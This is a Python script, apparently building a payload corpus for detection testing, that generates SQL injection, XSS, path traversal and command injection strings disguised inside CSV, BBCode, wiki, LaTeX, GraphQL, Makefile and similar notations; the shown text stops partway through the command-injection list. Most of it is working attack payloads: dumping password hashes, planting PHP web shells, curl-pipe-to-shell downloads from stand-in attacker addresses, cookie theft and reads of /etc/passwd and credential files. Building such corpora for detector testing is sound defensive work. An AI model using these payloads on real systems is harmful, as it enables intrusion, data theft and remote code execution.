#!/usr/bin/env python3
"""Write attacks.jsonl: attacks hidden in the notations of the benign corpus.

The benign corpus (make_benign.py) holds structured, non-prose text: deep
links, tokens, regexes, LaTeX and spreadsheet formulas, wiki/BBCode/AsciiDoc
/reStructuredText/Org/Jira/Slack markup, code, CSV and log lines, ASCII art,
many scripts.  The attacks below wear the same clothes: an XSS in a BBCode
[url=], a traversal in a deep link's parameter, SSRF through an OIDC
request_uri, a formula in a CSV line, SQL injection in a GraphQL argument,
command injection in a Makefile variable, template injection inside wiki
markup, YAML tags, LaTeX \\input and \\write18 and so on.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.
Attacker hosts are reserved names and documentation addresses
(attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata and loopback addresses.

Standard library only, deterministic (random.Random(1920)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import re
import struct
import urllib.parse
from pathlib import Path

RNG = random.Random(1920)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def qq(s):
    return q(q(s))


def q_keep(s, safe="/:=&?"):
    return urllib.parse.quote(s, safe=safe)


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def html_dec(s):
    return "".join("&#%d;" % ord(c) for c in s)


def html_hex(s):
    return "".join("&#x%x;" % ord(c) for c in s)


def js_uni(s):
    return "".join("\\u%04x" % ord(c) for c in s)


def charcodes(s):
    return ",".join(str(ord(c)) for c in s)


def mixed_case(s):
    return "".join(c.upper() if c.isalpha() and RNG.random() < 0.5 else c.lower() for c in s)


FW = str.maketrans({c: chr(ord(c) + 0xFEE0) for c in "!\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~"})


def fullwidth(s):
    return s.translate(FW)


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


class PhpObj:
    def __init__(self, name, props):
        self.name, self.props = name, props


class PhpRaw(str):
    pass


def php_ser(v):
    """PHP serialize() for the few types the gadgets need (lengths are byte counts)."""
    if isinstance(v, PhpRaw):
        return str(v)
    if v is None:
        return "N;"
    if isinstance(v, bool):
        return "b:%d;" % int(v)
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode()), v)
    if isinstance(v, list):
        v = dict(enumerate(v))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(k) + php_ser(x) for k, x in v.items()))
    if isinstance(v, PhpObj):
        return 'O:%d:"%s":%d:{%s}' % (len(v.name), v.name, len(v.props),
                                      "".join(php_ser(k) + php_ser(x) for k, x in v.props.items()))
    raise TypeError(v)


def prot(name):
    return "\0*\0" + name


def priv(cls, name):
    return "\0%s\0%s" % (cls, name)


def resp(*args):
    out = "*%d\r\n" % len(args)
    for a in args:
        out += "$%d\r\n%s\r\n" % (len(a.encode()), a)
    return out


def take(items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal: %r" % v)
        SEEN.add(v)
        out.append((cls, v))
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small")
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


ATK_HOSTS = ["attacker.example", "203.0.113.7", "203.0.113.45", "198.51.100.23", "exfil.attacker.example", "cdn-attacker.example"]


# ====================================================================== sqli
SQL_KW = re.compile(r"\b(UNION|SELECT|FROM|WHERE|AND|OR|NULL|SLEEP|WAITFOR|DELAY|COUNT|extractvalue|concat|database|randomblob)\b")


def sqli():
    lit = [
        ("csv-field-union-mysql", "10234,\"Linen Shirt' UNION SELECT username,password_hash,NULL FROM admin_users-- -\",2,49.90,EUR"),
        ("csv-field-concat-subquery-pgsql", "\"O'Brien\",anna@example.com,\"'||(SELECT string_agg(email||':'||password_hash,',') FROM users)||'\",DE"),
        ("csv-field-stacked-update", "10235,\"Tote'); UPDATE users SET role='admin' WHERE email='mallory@attacker.example';--\",1,19.00"),
        ("graphql-arg-union", "query { search(term: \"mug' UNION ALL SELECT table_name,column_name,NULL FROM information_schema.columns-- \") { id title price } }"),
        ("graphql-variable-time-blind-mysql", "{\"query\":\"query($sku:String!){product(sku:$sku){id title}}\",\"variables\":{\"sku\":\"TSH-001' AND (SELECT 1 FROM (SELECT SLEEP(6))x)-- -\"}}"),
        ("graphql-orderby-stacked", "{ orders(orderBy: \"created_at; DROP TABLE order_audit; --\") { id total } }"),
        ("graphql-where-bool-blind-pgsql", "query { customers(where: \"email = 'a@b.c' OR (SELECT 1 FROM pg_user WHERE usesuper AND usename=current_user)=1\") { email } }"),
        ("graphql-arg-error-mysql-updatexml", "mutation { updateProfile(bio: \"hi' AND updatexml(1,concat(0x7e,(SELECT user())),1) AND '1'='1\") { ok } }"),
        ("deeplink-sort-bool-blind", "myapp://catalog?sort=(CASE WHEN (SELECT ascii(substring(password_hash,1,1)) FROM users WHERE id=1)>77 THEN price ELSE title END)"),
        ("deeplink-param-union+urlenc", "bluebird://search?q=" + q("lamp' UNION SELECT NULL,concat(email,0x3a,password_hash),NULL FROM customers-- -")),
        ("wiki-template-error-extractvalue", "{{cite web|url=https://example.org/a|title=x' AND extractvalue(1,concat(0x7e,(SELECT concat(user(),0x3a,version())),0x7e))-- -}}"),
        ("bbcode-quote-author-tautology", "[quote=\"admin' OR '1'='1' -- \"]see above[/quote]"),
        ("regex-field-bool-blind-mysql", "^(mug|cup)$' OR (SELECT 1 FROM users WHERE username='admin' AND password_hash LIKE '$2y$10$a%')-- -"),
        ("search-union+mixed-case+comment", "linen' uNiOn/**/SeLeCt null,concat_ws(0x3a,user(),database(),@@version),null#"),
        ("search-union+urlenc", "q=" + q("mug' UNION SELECT NULL,email,password_hash FROM customers-- -")),
        ("search-union+double-urlenc", "q=" + qq("tote' UNION SELECT 1,group_concat(api_key),3 FROM integrations-- -")),
        ("stacked-mssql-xp-cmdshell", "ORD-10234'; EXEC master..xp_cmdshell 'powershell -nop -c \"iwr http://203.0.113.7/a.ps1 | iex\"';--"),
        ("time-blind-mssql", "Anna Müller'; WAITFOR DELAY '0:0:7'--"),
        ("time-blind-pgsql", "TSH-001'; SELECT pg_sleep(8)--"),
        ("error-pgsql-cast", "' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
        ("union-oracle", "Berlin' UNION SELECT owner, table_name FROM all_tables WHERE ROWNUM<=50--"),
        ("error-oracle-utl-inaddr", "' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--"),
        ("union-sqlite-master", "notes' UNION SELECT name, sql FROM sqlite_master--"),
        ("auth-bypass+hex-string", "x' OR username=0x61646d696e-- -"),
        ("union+char", "' UNION SELECT CHAR(%s),password_hash FROM users-- -" % charcodes("admin")),
        ("file-read-mysql+newline", "'\nUNION\nSELECT\n1,load_file('/etc/passwd'),3#"),
        ("tautology+tab", "'\tOR\t1=1\t--\t"),
        ("telemetry-kv-tautology+comment-space", "device=th-0042'/**/OR/**/'1'='1 temp_c=21.7 rh=43"),
        ("hl7-field-stacked", "PID|1||123456^^^HOSP^MR||MUELLER'); DELETE FROM lab_results;--^ANNA||19850412|F"),
        ("ical-summary-time-blind-pgsql", "BEGIN:VEVENT\nSUMMARY:Review'||(SELECT 1 FROM pg_sleep(5))||'\nDTSTART:20250310T090000Z\nEND:VEVENT"),
        ("json-filter-tautology", "{\"filter\":{\"name\":\"x' OR 1=1 LIMIT 1 OFFSET 0-- \"}}"),
        ("i18n-search-union", "注文' UNION SELECT 1,@@version,3-- -"),
        ("union+comment-mixed-case", "admin'/**/aNd/**/1=0/**/UnIoN/**/aLl/**/SeLeCt/**/1,2,group_concat(password_hash)/**/from/**/users#"),
        ("numeric-time-blind-mysql", "order_id=10234 AND (SELECT 7431 FROM (SELECT(SLEEP(5)))a)"),
        ("numeric-bool-blind", "1 OR (SELECT ASCII(SUBSTRING(password_hash,1,1)) FROM users LIMIT 1)>64"),
        ("file-write-mysql", "' UNION SELECT '<?php system($_GET[0]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -"),
        ("stacked-pgsql-copy-program", "x'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x | sh'--"),
        ("tautology+html-entities", "&#39; OR &#39;1&#39;=&#39;1&#39;-- -"),
        ("tautology+fullwidth-quote-bestfit", "admin\uff07 OR 1=1-- -"),
        ("tautology+gbk-multibyte-quote", "%bf%27 OR 1=1-- -"),
        ("bool-blind-substring", "' AND SUBSTRING((SELECT password_hash FROM users WHERE username='admin'),1,1)='$'-- -"),
        ("union-mysql-json", "' UNION SELECT JSON_ARRAYAGG(JSON_OBJECT('u',username,'p',password_hash)),2 FROM users-- -"),
        ("stacked-sqlite-attach-webshell", "'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p (d text); INSERT INTO x.p VALUES ('<?php system($_GET[\"c\"]); ?>');--"),
        ("oob-mssql-xp-dirtree", "'; EXEC master..xp_dirtree '\\\\203.0.113.12\\share';--"),
        ("union+hash-comment-newline", "' UNION#foo\nSELECT 1,table_name,3 FROM information_schema.tables-- -"),
        ("tautology-parenthesis", "') OR ('1'='1"),
        ("tautology-double-quote", "\" OR \"\"=\""),
        ("limit-procedure-analyse-mysql5", "limit=10 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,version())),1)"),
        ("insert-header-subquery", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)', (SELECT group_concat(email) FROM users), '1')-- -"),
        ("vcard-field-union", "BEGIN:VCARD\nVERSION:4.0\nFN:Anna' UNION SELECT password_hash FROM users WHERE id=1-- -\nEND:VCARD"),
        ("union-mssql+tab", "'\tUNION\tALL\tSELECT\tname,password_hash\tFROM\tsys.sql_logins--"),
        ("order-by-error-pgsql", "sort=created_at,(SELECT CAST(current_setting('data_directory') AS int))"),
        ("union+float-literal", "id=1e0 UNION SELECT 1,email,password_hash FROM users"),
        ("union+versioned-comment", "kettle' /*!50000UNION*/ /*!50000SELECT*/ 1,concat(username,0x3a,password_hash),3 FROM staff-- -"),
        ("oob-oracle-utl-http", "' || UTL_HTTP.request('http://203.0.113.14/'||(SELECT user FROM dual)) || '"),
        ("stacked-mysql-insert-admin", "'; INSERT INTO users (email, password_hash, role) VALUES ('m@attacker.example', '$2y$10$abcdefghijklmnopqrstuv', 'admin');-- -"),
        ("edi-segment-union", "BEG*00*SA*PO-10234' UNION SELECT NULL,card_number,NULL FROM payments-- -**20250304~"),
        ("formula-field-union", "=SUM(A2:A9)' UNION SELECT password_hash,2 FROM users-- -"),
        ("markdown-table-cell-time-blind", "| sku | note |\n|---|---|\n| TSH-001 | ok' AND SLEEP(5)-- -"),
        ("log-line-field-time-blind", "84.17.46.2 - - [04/Mar/2025:10:15:32 +0100] \"GET /?ref=x'||(SELECT 1 FROM pg_sleep(6))||' HTTP/1.1\" 200 512 \"-\" \"curl/8.5\""),
    ]
    ctxs = [
        ("csv", "10234,\"%s\",2,49.90,EUR"),
        ("graphql", "query { product(handle: \"%s\") { id title } }"),
        ("json", "{\"sku\":\"%s\",\"qty\":1}"),
        ("wiki", "{{Infobox product|name=%s}}"),
        ("bbcode", "[b]%s[/b]"),
        ("ical", "SUMMARY:%s"),
        ("search", "%s"),
        ("i18n", "商品%s"),
    ]
    heads = ["linen", "Müller", "TSH-001", "Kaffee", "mug"]
    pays = [
        ("union", "' UNION SELECT NULL,username,password_hash FROM staff-- -"),
        ("time-blind-mysql", "' AND SLEEP(5)-- -"),
        ("time-blind-pgsql", "' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
        ("time-blind-mssql", "'; WAITFOR DELAY '0:0:5'--"),
        ("tautology", "' OR 1=1-- -"),
        ("error-mysql-extractvalue", "' AND extractvalue(1,concat(0x7e,database()))-- -"),
        ("union-schema", "' UNION SELECT table_name,NULL FROM information_schema.tables-- -"),
        ("bool-blind", "' AND (SELECT COUNT(*) FROM users WHERE role='admin')>0-- -"),
        ("time-blind-sqlite", "' AND 1=randomblob(300000000)-- -"),
    ]
    evas = ["", "", "+comment-space", "+mixed-case", "+newline", "+urlenc"]

    def gen():
        cname, tpl = pick(ctxs)
        pname, pay = pick(pays)
        ev = pick(evas)
        head, sep, tail = pay.rpartition("--")
        if not sep:
            head, tail = pay, ""
        if ev == "+comment-space":
            pay = head.replace(" ", "/**/") + sep + tail
        elif ev == "+mixed-case":
            pay = SQL_KW.sub(lambda m: mixed_case(m.group(0)), head) + sep + tail
        elif ev == "+newline":
            pay = pay.replace(" ", "\n", 2)
        elif ev == "+urlenc":
            if cname not in ("search", "json"):
                ev = ""
            else:
                pay = q(pay)
        return "%s-%s%s" % (cname, pname, ev), tpl % (pick(heads) + pay)
    return take(lit, gen, 70)


# ====================================================================== xss
def xss():
    lit = [
        ("bbcode-url-javascript", "[url=javascript:alert(document.domain)]Track your parcel[/url]"),
        ("bbcode-url-javascript+entity-colon", "[url=javascript&#58;fetch('//attacker.example/c?'+document.cookie)]invoice.pdf[/url]"),
        ("bbcode-img-attr-breakout", "[img]https://cdn.example/x.png\" onerror=\"alert(document.cookie)[/img]"),
        ("bbcode-url-attr-breakout", "[url=https://kiezkaffee.de\" onmouseover=\"alert(1)\" x=\"]Shop[/url]"),
        ("bbcode-quote-author-breakout", "[quote=\"Anna\"><svg onload=alert(document.domain)>\"]hi[/quote]"),
        ("bbcode-color-attr-breakout", "[color=red\" style=\"position:fixed;inset:0\" onmouseover=\"alert(1)]hover[/color]"),
        ("bbcode-url-javascript+tab", "[url=java\tscript:alert(document.cookie)]Open[/url]"),
        ("wiki-cite-url-javascript", "{{cite web|url=javascript:alert(document.cookie)|title=Annual report 2024}}"),
        ("wiki-file-link-javascript", "[[File:Logo.png|link=javascript:alert(1)]]"),
        ("wiki-infobox-img-onerror", "{{Infobox company\n| name = <img src=x onerror=alert(document.domain)>\n}}"),
        ("markdown-link-javascript", "[release notes](javascript:alert(document.domain))"),
        ("markdown-link-javascript+mixed-case", "[docs](JaVaScRiPt:alert(1))"),
        ("markdown-link-javascript+hex-entities", "[click](%salert(1))" % html_hex("javascript:")),
        ("markdown-image-attr-breakout", "![logo](https://cdn.example/l.png\"onerror=\"alert(1))"),
        ("slack-link-javascript", "<javascript:alert(document.cookie)|open the report>"),
        ("textile-link-javascript", "\"track parcel\":javascript:alert(document.domain)"),
        ("textile-image-attr-breakout", "!https://cdn.example/img.png(alt\" onerror=\"alert(1))!"),
        ("asciidoc-link-javascript", "link:javascript:alert(1)[Release notes]"),
        ("asciidoc-passthrough-script", "++++\n<script>alert(document.domain)</script>\n++++"),
        ("rst-link-javascript", "`click here <javascript:alert(document.cookie)>`_"),
        ("rst-raw-html", ".. raw:: html\n\n   <img src=x onerror=alert(document.domain)>"),
        ("org-link-javascript", "[[javascript:alert(document.domain)][Open budget]]"),
        ("jira-link-javascript", "[see the log|javascript:alert(1)]"),
        ("data-url-html-base64", "data:text/html;base64," + b64("<script>alert(document.domain)</script>")),
        ("data-url-svg-base64", "data:image/svg+xml;base64," + b64("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>")),
        ("redirect-param-javascript", "https://app.acme-outfitters.com/login?next=javascript:alert(document.cookie)"),
        ("redirect-param-javascript+urlenc", "https://app.acme-outfitters.com/login?next=" + q("javascript:fetch('//attacker.example/?'+document.cookie)")),
        ("kaomoji-svg-onload", "¯\\_(ツ)_/¯<svg onload=alert(document.domain)>"),
        ("emoji-img-onerror", "🎉🎉 <img src=x onerror=alert(1)> 🎉🎉"),
        ("i18n-script-tag", "名前<script>alert('漢字')</script>"),
        ("i18n-arabic-img-onerror", "طلب رقم 10234 <img src=1 onerror=alert(document.cookie)>"),
        ("script+mixed-case", "<ScRiPt>alert(document.domain)</sCrIpT>"),
        ("img+slash-separator", "<img/src=x/onerror=alert(1)>"),
        ("svg+newline", "<svg\nonload=alert(1)>"),
        ("a-href-javascript+tab", "<a href=\"java\tscript:alert(1)\">invoice</a>"),
        ("a-href-javascript+decimal-entities", "<a href=\"%s\">invoice.pdf</a>" % html_dec("javascript:alert(1)")),
        ("img-onerror+js-unicode-escape", "<img src=x onerror=\\u0061lert(document.domain)>"),
        ("script+fullwidth-nfkc", fullwidth("<script>") + "alert(1)" + fullwidth("</script>")),
        ("angularjs-template", "{{constructor.constructor('alert(document.domain)')()}}"),
        ("vue2-template", "{{_c.constructor('alert(1)')()}}"),
        ("log-line-ua-script", "203.0.113.5 - - [04/Mar/2025:10:15:32 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"<script src=https://attacker.example/k.js></script>\""),
        ("csv-field-img-onerror", "10234,\"<img src=x onerror=fetch('//attacker.example/?c='+document.cookie)>\",2,49.90"),
        ("vcard-fn-svg", "BEGIN:VCARD\nVERSION:4.0\nFN:<svg/onload=alert(document.domain)>\nEND:VCARD"),
        ("email-quote-iframe-srcdoc", "> On Tue, Anna wrote:\n> <iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
        ("json-script-breakout", "{\"bio\":\"</script><script>alert(document.domain)</script>\"}"),
        ("json-unicode-escape-innerhtml", "{\"name\":\"\\u003cimg src=x onerror=alert(1)\\u003e\"}"),
        ("mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"),
        ("details-ontoggle", "<details open ontoggle=alert(document.domain)><summary>Size chart</summary></details>"),
        ("input-autofocus", "<input autofocus onfocus=alert(1) value=\"search\">"),
        ("latex-href-javascript", "$\\href{javascript:alert(1)}{\\text{click}}$"),
        ("regex-pattern-attr-breakout", "^[a-z]+$\" autofocus onfocus=\"alert(1)"),
        ("ascii-box-iframe", "┌────┐\n│ hi │<iframe src=javascript:alert(1)>\n└────┘"),
        ("style-breakout", "</style><script>alert(1)</script>"),
        ("textarea-breakout", "</textarea><svg onload=alert(1)>"),
        ("js-string-breakout", "';alert(document.domain);//"),
        ("js-template-literal-breakout", "${alert(document.domain)}"),
        ("object-data-javascript", "<object data=\"javascript:alert(1)\"></object>"),
        ("svg-onload+urlenc", q("<svg onload=alert(document.cookie)>")),
        ("img-onerror+double-urlenc", qq("<img src=x onerror=alert(1)>")),
        ("img-onerror+html-entities-decoded", "&lt;img src=x onerror=alert(1)&gt;"),
        ("pgn-tag-img-onerror", "[Event \"<img src=x onerror=alert(1)>\"]\n[Site \"Berlin\"]\n\n1. e4 e5 *"),
        ("abc-title-svg", "X:1\nT:<svg onload=alert(1)>\nK:D\n|:dfa agf:|"),
        ("inline-html-onclick", "Great shop! <a href=\"#\" onclick=\"alert(document.cookie)\">see photos</a>"),
        ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
        ("form-action-javascript", "<form action=\"javascript:alert(1)\"><button>Pay now</button></form>"),
        ("button-formaction", "<form><button formaction=javascript:alert(1)>Submit</button></form>"),
        ("css-import-exfil", "<style>@import url(https://attacker.example/s.css);</style>"),
        ("img-onerror+fromcharcode", "<img src=x onerror=eval(String.fromCharCode(%s))>" % charcodes("alert(document.cookie)")),
        ("img-onerror+base64", "<img src=x onerror=eval(atob('%s'))>" % b64("fetch('//attacker.example/?'+document.cookie)")),
        ("svg-script-href", "<svg><script href=\"data:text/javascript,alert(1)\"></script></svg>"),
        ("iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ]
    tags = [("img", "<img src=x %s=%s>", "onerror"), ("svg", "<svg %s=%s>", "onload"), ("body", "<body %s=%s>", "onload"),
            ("video", "<video src=x %s=%s>", "onerror"), ("details", "<details open %s=%s>", "ontoggle"),
            ("marquee", "<marquee %s=%s>sale</marquee>", "onstart")]
    jss = ["alert(1)", "alert(document.domain)", "confirm(document.cookie)", "fetch('//attacker.example/?'+document.cookie)",
           "import('//attacker.example/m.js')", "location='//attacker.example/?'+document.cookie"]
    wraps = [("markup-bbcode", "[quote]%s[/quote]"), ("markup-wiki", "{{Quote|%s}}"), ("markup-jira", "{quote}%s{quote}"),
             ("emoji", "🔥 %s 🔥"), ("i18n", "ご注文 %s ありがとう"), ("csv", "10234,\"%s\",1"), ("plain", "%s")]

    def gen():
        tname, tpl, ev = pick(tags)
        js = pick(jss)
        wname, w = pick(wraps)
        enc = pick(["", "", "+mixed-case", "+html-entities-handler", "+slash-separator"])
        if enc == "+mixed-case":
            v = tpl % (mixed_case(ev), js)
            v = "<" + mixed_case(v[1:v.index(" ")]) + v[v.index(" "):]
        elif enc == "+html-entities-handler":
            v = tpl % (ev, "\"%s\"" % html_dec(js))
        elif enc == "+slash-separator":
            v = (tpl % (ev, js)).replace(" ", "/", 1)
        else:
            v = tpl % (ev, js)
        if wname == "csv":
            v = v.replace('"', '""')
        return "%s-%s-%s%s" % (wname, tname, ev, enc), w % v
    return take(lit, gen, 80)


# ====================================================================== traversal
def traversal():
    lit = [
        ("deeplink-param-dotdot", "myapp://files/open?path=../../../../../../etc/passwd"),
        ("url-param-dotdot+urlenc", "https://cdn.acme-outfitters.com/download?file=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow"),
        ("intent-extra-dotdot", "intent://export/#Intent;scheme=acmeshop;package=com.acmeoutfitters.app;S.file=../../../../data/data/com.acmeoutfitters.app/shared_prefs/session.xml;end"),
        ("asciidoc-include-absolute", "include::/etc/passwd[]"),
        ("asciidoc-include-dotdot", "== Intro\n\ninclude::../../../../../home/app/.env[]"),
        ("rst-include-directive", ".. include:: /etc/passwd\n   :literal:"),
        ("sphinx-literalinclude-dotdot", ".. literalinclude:: ../../../../../../proc/self/environ"),
        ("rst-raw-file", ".. raw:: html\n   :file: ../../../../etc/shadow"),
        ("org-include-directive", "#+INCLUDE: \"/etc/passwd\" src text"),
        ("latex-input", "\\input{/etc/passwd}"),
        ("latex-lstinputlisting", "\\lstinputlisting{/home/app/.aws/credentials}"),
        ("latex-verbatiminput-dotdot", "\\verbatiminput{../../../../../etc/hosts}"),
        ("latex-openin-read", "\\newread\\f \\openin\\f=/etc/passwd \\read\\f to\\line \\texttt{\\line}"),
        ("ejs-include-dotdot", "<%- include('../../../../../../etc/passwd') %>"),
        ("smarty-fetch-file", "{fetch file='/etc/passwd'}"),
        ("csv-attachment-path", "10234,invoice,../../../../../etc/passwd,pdf"),
        ("json-template-field", "{\"template\":\"../../../../../../proc/self/environ\",\"format\":\"txt\"}"),
        ("yaml-template-field", "export:\n  template: ../../../../../../etc/passwd\n  format: csv"),
        ("php-filter-base64", "php://filter/convert.base64-encode/resource=../config/database.php"),
        ("php-filter-rot13", "php://filter/read=string.rot13/resource=/var/www/html/wp-config.php"),
        ("windows-backslash", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
        ("windows-backslash+urlenc", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
        ("windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
        ("dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        ("dotdot+overlong-utf8-slash", "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        ("dotdot+fullwidth-slash-urlenc", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
        ("dotdot+fullwidth-nfkc", fullwidth("../../../../") + "etc" + fullwidth("/") + "passwd"),
        ("dotdot+nested-strip", "....//....//....//....//etc/passwd"),
        ("dotdot+nested-strip-mixed", "..././..././..././..././etc/shadow"),
        ("tomcat-semicolon", "/static/..;/..;/WEB-INF/web.xml"),
        ("dotdot+null-byte", "../../../../../etc/passwd%00.png"),
        ("iis-u-encoding", "%u002e%u002e%u2215%u002e%u002e%u2215%u002e%u002e%u2215windows%u2215win.ini"),
        ("dotdot+mixed-case-urlenc", "%2E%2e%2F%2e%2E%2f%2E%2E%2f%2e%2e%2fetc%2Fpasswd"),
        ("i18n-filename-dotdot", "レポート.pdf/../../../../../etc/hosts"),
        ("zip-slip-entry", "../../../../../../home/app/.ssh/authorized_keys"),
        ("proc-self-cwd", "/proc/self/cwd/config/secrets.yml"),
        ("proc-self-environ", "/proc/self/environ"),
        ("nginx-alias-off-by-slash", "/assets../.env"),
        ("signed-url-key-dotdot", "https://acme-assets.example/files/invoices%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd?X-Amz-Expires=900&X-Amz-Signature=" + "".join(pick("0123456789abcdef") for _ in range(64))),
        ("url-path-encoded-dot", "https://app.acme-outfitters.com/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
        ("locale-param-dotdot+null-byte", "lang=../../../../../../etc/passwd%00"),
        ("theme-param-log-include", "theme=../../../../../../var/log/nginx/access.log"),
        ("unc-path-ntlm-leak", "\\\\203.0.113.40\\share\\logo.png"),
        ("dotdot-java-web-inf", "../../WEB-INF/classes/application.properties"),
        ("json-schema-ref-file", "{\"$ref\": \"file:///etc/passwd#\"}"),
        ("absolute-path-join", "/etc/passwd"),
        ("windows-device-path", "\\\\?\\C:\\Windows\\win.ini"),
        ("dotdot+half-urlenc", ".%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
        ("dotdot+dot-slash-padding", "./.././.././.././.././../etc/./passwd"),
        ("dotdot+double-slash", "..//..//..//..//..//etc//shadow"),
        ("wiki-image-dotdot", "[[File:../../../../../../etc/passwd|thumb]]"),
        ("markdown-include-dotdot", "!INCLUDE \"../../../../../../etc/passwd\""),
        ("bbcode-attachment-dotdot", "[attachment=../../../../../../config/app.ini]spec sheet[/attachment]"),
        ("param-absolute-path+urlenc", "path=%2Fetc%2Fpasswd"),
        ("php-zip-wrapper", "zip://../uploads/avatar.jpg%23shell.php"),
    ]
    prefixes = [("deeplink", "myapp://docs/view?file=%s"), ("url", "https://cdn.bluebird-home.com/img?src=%s"),
                ("csv", "10234,attachment,%s,pdf"), ("json", "{\"path\":\"%s\"}"), ("param", "template=%s"),
                ("asciidoc", "include::%s[]"), ("latex", "\\input{%s}"), ("plain", "%s")]
    targets = ["etc/passwd", "etc/shadow", "proc/self/environ", "home/app/.env", "root/.ssh/id_rsa", "var/www/html/config.php",
               "etc/nginx/nginx.conf", "app/config/secrets.yml", "windows/win.ini"]
    encs = ["", "+urlenc", "+double-urlenc", "+backslash", "+nested-strip", "+overlong-utf8-slash"]

    def gen():
        pname, tpl = pick(prefixes)
        depth = RNG.randint(3, 9)
        tgt = pick(targets)
        enc = pick(encs)
        if pname in ("asciidoc", "latex") and enc not in ("", "+nested-strip"):
            enc = ""
        if enc == "+backslash":
            p = "..\\" * depth + tgt.replace("/", "\\")
        elif enc == "+nested-strip":
            p = "....//" * depth + tgt
        elif enc == "+urlenc":
            p = "..%2f" * depth + tgt.replace("/", "%2f")
        elif enc == "+double-urlenc":
            p = "%252e%252e%252f" * depth + tgt.replace("/", "%252f")
        elif enc == "+overlong-utf8-slash":
            p = "..%c0%af" * depth + tgt.replace("/", "%c0%af")
        else:
            p = "../" * depth + tgt
        return "%s-dotdot%s" % (pname, enc), tpl % p
    return take(lit, gen, 65)


# ====================================================================== cmdi
def cmdi():
    key = b64(struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes(RNG.getrandbits(8) for _ in range(32)))
    ps = b64("iwr http://203.0.113.26/p.ps1 -UseBasicParsing | iex".encode("utf-16-le"))
    lit = [
        ("makefile-var-shell-function", "1.4.2 $(shell curl -s http://203.0.113.20/m.sh | sh)"),
        ("makefile-target-newline-recipe", "release\n\tcurl -s http://203.0.113.20/r.sh | sh"),
        ("makefile-var-backticks", "VERSION=`id > /tmp/v`"),
        ("dockerfile-from-newline", "python:3.12-slim\nRUN curl -fsSL http://203.0.113.21/i.sh | sh"),
        ("dockerfile-run-chained", "pip install -r requirements.txt && curl -fsSL http://203.0.113.21/i.sh | bash"),
        ("dockerfile-build-arg-subshell", "NODE_VERSION=20$(wget -qO- http://203.0.113.21/a|sh)"),
        ("regex-grep-single-quote-breakout", "error|timeout' /dev/null; cat /etc/passwd #"),
        ("regex-grep-double-quote-breakout", "^ERROR\"; wget -qO- http://203.0.113.22/r | sh; echo \""),
        ("regex-field-newline", "^ERROR$\ncurl -s http://203.0.113.38/n | sh"),
        ("sed-script-e-flag", "1s/.*/cat \\/etc\\/passwd/e"),
        ("sed-script-w-flag", "s/x/<?php system($_GET[0]);?>/w /var/www/html/x.php"),
        ("filename-subshell", "report_$(whoami).csv"),
        ("filename-backticks", "invoice_`id`.pdf"),
        ("hostname-semicolon-dns-exfil", "kiezkaffee.de; nslookup $(whoami).attacker.example"),
        ("latex-write18", "\\immediate\\write18{curl -s http://203.0.113.23/l.sh | sh}"),
        ("latex-input-pipe", "\\input|\"cat /etc/passwd\" "),
        ("git-url-upload-pack", "--upload-pack=touch /tmp/pwned"),
        ("git-ext-transport", "ext::sh -c touch% /tmp/pwned"),
        ("ssh-url-proxycommand", "ssh://-oProxyCommand=curl${IFS}http://203.0.113.24|sh/repo"),
        ("semicolon+ifs", "8.8.8.8;cat${IFS}/etc/passwd"),
        ("semicolon+ansi-c-quoting", "x;$'\\x63\\x61\\x74' /etc/passwd"),
        ("semicolon+quote-splitting", "x;c''a\"\"t /e't'c/pa''sswd"),
